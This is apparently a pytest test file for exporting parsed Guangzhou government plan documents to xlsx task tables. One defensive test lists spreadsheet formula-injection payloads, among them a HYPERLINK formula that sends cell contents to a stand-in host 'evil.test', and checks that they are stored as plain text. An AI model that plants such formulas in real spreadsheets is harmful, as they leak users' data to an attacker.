import io

import openpyxl
import pytest

from service.plans.parser import parse_plan_file, parse_plan_text
from service.plans.spreadsheet import HEADERS, write_task_table

from .conftest import seed_path


def without_warnings(plan: dict) -> dict:
    return {key: value for key, value in plan.items() if key != "warnings"}


@pytest.mark.parametrize("prefix", ["000", "001", "002", "003", "004"])
def test_round_trip_through_xlsx(prefix):
    plan = parse_plan_file(seed_path(prefix).read_bytes(), "plan.txt").to_dict()
    again = parse_plan_file(write_task_table(plan), "plan.xlsx").to_dict()
    assert without_warnings(again) == without_warnings(plan)


def test_layout_is_the_usual_task_table(guangzhou_text):
    book = openpyxl.load_workbook(io.BytesIO(write_task_table(parse_plan_text(guangzhou_text).to_dict())))
    assert book.sheetnames == ["分工表", "推进阶段", "指标"]
    sheet = book["分工表"]
    assert sheet["A1"].value == "廣州市創建國家知識產權強市行動計劃(2017—2020年)"
    assert sheet["A2"].value == "穗府〔2018〕2號"
    assert tuple(cell.value for cell in sheet[3]) == HEADERS
    assert sheet["A4"].value == "實施知識產權管理能力提升工程"
    assert (sheet["A5"].value, sheet["B5"].value, sheet["E5"].value) == (
        "1", "推進知識產權管理體制機制改革", "市知识产权局、市编办"
    )
    phases = book["推进阶段"]
    assert phases["A2"].value == "前期準備階段"
    assert phases["B2"].value.date().isoformat() == "2017-06-30"


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://evil.test/?x="&A1,"click")', "+1+2", "-1+2", "@SUM(A1)", "\t=1+2", "\r=1+2"],
)
def test_formula_like_text_is_written_as_text(text):
    plan = parse_plan_text("一、任务\n1.推进改革。(市知识产权局牵头)\n").to_dict()
    plan["tasks"][0]["title"] = text
    plan["tasks"][0]["measures"][0]["text"] = text
    sheet = openpyxl.load_workbook(io.BytesIO(write_task_table(plan)))["分工表"]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == text]
    assert len(cells) == 2
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells)
